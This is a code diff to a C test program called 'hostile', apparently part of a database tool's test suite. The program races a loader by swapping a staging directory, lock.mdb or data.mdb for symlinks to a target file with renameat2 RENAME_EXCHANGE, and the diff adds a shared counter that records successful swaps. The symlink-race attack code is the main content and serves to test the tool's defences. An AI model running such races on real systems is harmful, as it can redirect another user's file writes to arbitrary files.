@@ -3,7 +3,7 @@
  * The owner of a database directory, who exchanges a name in it while somebody else
  * loads:
  *
- *   hostile WAY DIR TARGET
+ *   hostile WAY DIR TARGET COUNT
  *
  *   blind     ditkit-staging for a directory in which data.mdb is a link to TARGET, as
  *             often as he can
@@ -11,12 +11,16 @@
  *   lock      lock.mdb for a link to TARGET, while there is a ditkit-staging
  *   data      data.mdb likewise
  *
- * Ends when it is killed.
+ * The file COUNT, eight bytes, has the number of names that he has exchanged while a load
+ * was there: who sees it grow during a load knows that the attack took place. Ends when it
+ * is killed.
  */
 #include <fcntl.h>
 #include <stdbool.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <string.h>
+#include <sys/mman.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -30,13 +34,37 @@ static void put_link(const char *target, const char *name)
 	(void)r;
 }
 
-/* Each may be taken away at any moment, and is made again. */
-static void prepare_directory(const char *target)
+static uint64_t *nexchanged; /* in the map of COUNT */
+
+static bool exists(const char *name)
 {
 	struct stat st;
 
-	if (lstat("evil", &st) == 0 && st.st_uid != geteuid()) {
-		(void)rmdir("evil"); /* theirs, from an earlier exchange */
+	return lstat(name, &st) == 0;
+}
+
+static bool is_link(const char *name)
+{
+	struct stat st;
+
+	return lstat(name, &st) == 0 && S_ISLNK(st.st_mode);
+}
+
+/* "evil" is the staging directory of an earlier load: out of the way with it. */
+static void put_aside(void)
+{
+	static unsigned n;
+	char name[32];
+
+	(void)snprintf(name, sizeof(name), "old-%u", n++);
+	(void)rename("evil", name);
+}
+
+/* Each may be taken away at any moment, and is made again. */
+static void prepare_directory(const char *target)
+{
+	if (exists("evil") && !is_link("evil/data.mdb")) {
+		put_aside();
 	}
 	if (mkdir("evil", 0777) == 0) {
 		(void)chmod("evil", 0777);
@@ -45,53 +73,73 @@ static void prepare_directory(const char *target)
 	put_link(target, "evil/lock.mdb");
 }
 
-static void exchange(const char *name)
+static bool exchange(const char *name)
 {
-	(void)renameat2(AT_FDCWD, "evil", AT_FDCWD, name, RENAME_EXCHANGE);
+	return renameat2(AT_FDCWD, "evil", AT_FDCWD, name, RENAME_EXCHANGE) == 0;
 }
 
-static bool is_foreign(const char *name)
+/* A staging directory that he has not put there. */
+static bool is_of_a_load(void)
 {
-	struct stat st;
-
-	return lstat(name, &st) == 0 && st.st_uid != geteuid();
+	return exists(STAGING) && !is_link(STAGING "/data.mdb");
 }
 
 static void attack_staging(const char *target, bool is_blind)
 {
 	for (;;) {
+		bool is_theirs = false;
+
 		prepare_directory(target);
-		while (!is_blind && !is_foreign(STAGING)) {
+		while (!is_blind && !is_of_a_load()) {
 			/* Be quick: the load is about to use it. */
 		}
-		exchange(STAGING);
+		is_theirs = is_of_a_load();
+		if (exchange(STAGING) && is_theirs) {
+			++*nexchanged;
+		}
 	}
 }
 
+/* While it loads the link has the name; else what the load left has it. */
 static void attack_file(const char *name, const char *target)
 {
-	struct stat st;
-	bool is_loading = false;
-	bool is_link = false;
-
 	for (;;) {
+		bool is_loading = exists(STAGING);
+		bool is_exchanged = is_link(name);
+		bool is_done = false;
+
 		put_link(target, "evil");
-		is_loading = lstat(STAGING, &st) == 0;
-		is_link = lstat(name, &st) == 0 && S_ISLNK(st.st_mode);
-		if (is_link != is_loading) {
-			exchange(name);
+		if (is_exchanged != is_loading) {
+			is_done = exchange(name);
+			if (!is_done &&
+			    is_loading) { /* there is no file of that name yet */
+				is_done = symlink(target, name) == 0;
+			}
+			*nexchanged += is_done && is_loading ? 1 : 0;
 		}
-		if (is_link && !is_loading) {
+		if (is_exchanged && !is_loading) {
 			(void)unlink(name); /* if there was nothing to exchange it with */
 		}
 	}
 }
 
+static bool map_count(const char *path)
+{
+	int fd = open(path, O_RDWR);
+	void *p = fd < 0 ? MAP_FAILED
+	                 : mmap(NULL, sizeof(*nexchanged), PROT_READ | PROT_WRITE,
+	                        MAP_SHARED, fd, 0);
+
+	nexchanged = p;
+	return p != MAP_FAILED;
+}
+
 int main(int argc, char **argv)
 {
-	if (argc != 4 || chdir(argv[2]) != 0) {
-		(void)fprintf(stderr,
-		              "usage: hostile blind|staging|lock|data DIR TARGET\n");
+	if (argc != 5 || !map_count(argv[4]) || chdir(argv[2]) != 0) {
+		(void)fprintf(
+			stderr,
+			"usage: hostile blind|staging|lock|data DIR TARGET COUNT\n");
 		return 2;
 	}
 	if (strcmp(argv[1], "lock") == 0) {
